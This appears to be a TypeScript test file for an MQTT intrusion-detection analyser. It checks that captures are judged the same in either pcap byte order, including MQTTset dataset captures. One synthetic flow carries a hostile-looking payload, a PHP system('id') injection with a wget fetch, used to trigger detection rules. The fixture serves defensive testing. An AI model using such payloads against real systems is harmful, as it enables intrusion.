import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { CaptureReader } from '@ringwall/wire/capture'
import { expect, test } from 'vitest'
import { CONNACK, capture, connect, hex, type MadeFlow, publish, type Sent } from './capture.testkit.ts'
import { EVE_TYPES } from './eve/types.ts'
import { prepare, type Wishes } from './prepare.ts'
import { openData } from './suricata.testkit.ts'

const rules = fileURLToPath(new URL('../../../../rules', import.meta.url))
const scenarios = [join(rules, 'scenarios')]

/** The same packets as a classic capture with nanoseconds, in either byte order. */
function rewritten(bytes: Uint8Array, little: boolean): Buffer {
  const reader = new CaptureReader()
  reader.feed(bytes)
  const words = (...numbers: readonly number[]): Buffer => {
    const buffer = Buffer.alloc(4 * numbers.length)
    for (const [i, number] of numbers.entries()) {
      if (little) buffer.writeUInt32LE(number, 4 * i)
      else buffer.writeUInt32BE(number, 4 * i)
    }
    return buffer
  }
  const parts: Buffer[] = []
  while (reader.next()) {
    if (parts.length === 0) {
      const version = little ? 2 | (4 << 16) : (2 << 16) | 4
      parts.push(words(0xa1b2_3c4d, version, 0, 0, 262_144, reader.linkType))
    }
    const seconds = Math.floor(reader.time / 1_000)
    const nanoseconds = Math.round((reader.time - 1_000 * seconds) * 1_000) * 1_000
    const packet = Buffer.from(reader.bytes.subarray(reader.start, reader.end))
    parts.push(words(seconds, nanoseconds, packet.length, reader.originalLength), packet)
  }
  return Buffer.concat(parts)
}

/** All that is said of a capture. */
async function judged(bytes: Buffer, wishes: Partial<Wishes>): Promise<unknown> {
  let text = ''
  const types = new Set(EVE_TYPES)
  const write = (lines: string): void => {
    text += lines
  }
  const nothing = { rules: [], scenarios: [], config: null, ports: [], eve: null }
  const trial = await prepare({ ...nothing, mapping: { clientId: false, roles: [] }, ...wishes })
  const withEve = await prepare({
    ...nothing,
    mapping: { clientId: false, roles: [] },
    ...wishes,
    eve: { types, passwords: true, limit: 0, write },
  })
  for (let at = 0; at < bytes.length; at += 100_000) {
    trial.take(bytes.subarray(at, at + 100_000))
    withEve.take(bytes.subarray(at, at + 100_000))
  }
  const extents = [trial.end(), withEve.end()]
  const { alerts, verdicts, alarms, anomalies, evasions } = trial.tally
  return { extents, alerts, verdicts, alarms, anomalies, evasions, missing: trial.missing.all, text }
}

/** Only captures in the byte order of WebAssembly are read in one step: in the other one the same must be found. */
async function agrees(bytes: Uint8Array): Promise<void> {
  for (const wishes of [{}, { rules: [rules] }, { rules: [rules], scenarios }]) {
    expect(await judged(rewritten(bytes, true), wishes)).toEqual(await judged(rewritten(bytes, false), wishes))
  }
}

const readings = (count: number): Sent[] =>
  Array.from({ length: count }, (_, i) => ({ up: publish('plant/pump-1/level', `{"v":${i}}`) }))

function talk(client: number, ...sent: readonly Sent[]): MadeFlow {
  return { client, sent: [{ up: connect(`pump-${client}`) }, { down: CONNACK }, ...sent] }
}

test('a capture is judged the same whether its messages are read in one step or not', async () => {
  await agrees(
    capture(
      talk(1, ...readings(40), { up: hex('c000') }, { down: hex('d000') }, ...readings(3), { up: hex('e000') }),
      // What a rule finds in a message, and what the floor finds between messages.
      talk(2, ...readings(5), { up: publish('plant/x', "<?php system('id') ?> ; wget http://x/") }, ...readings(2)),
      talk(3, ...readings(5), { up: publish('plant/+', 'x') }, ...readings(2)),
      talk(4, ...readings(5), { up: hex('e000') }, ...readings(2)),
      talk(5, ...readings(2), { up: connect('pump-5') }, ...readings(2)),
      talk(6, { down: publish('plant/set', '1') }, { up: hex('3204000161') }, { up: hex('00') }, ...readings(2)),
      { client: 7, midstream: true, sent: readings(10) },
      { client: 8, sent: [{ up: connect('pump-8') }, ...readings(10)] },
      { client: 9, sent: [{ up: connect('pump-9') }, { down: hex('20020005') }, ...readings(3)] },
    ),
  )
})

const folder = openData('mqttset')
test.skipIf(folder === null)(
  'so are the captures of MQTTset',
  async () => {
    const captures = readdirSync(folder ?? '').filter(name => /-train\.pcap(ng)?$/.test(name))
    expect(captures.length).toBeGreaterThan(5)
    for (const name of captures) await agrees(readFileSync(join(folder ?? '', name)))
  },
  300_000,
)
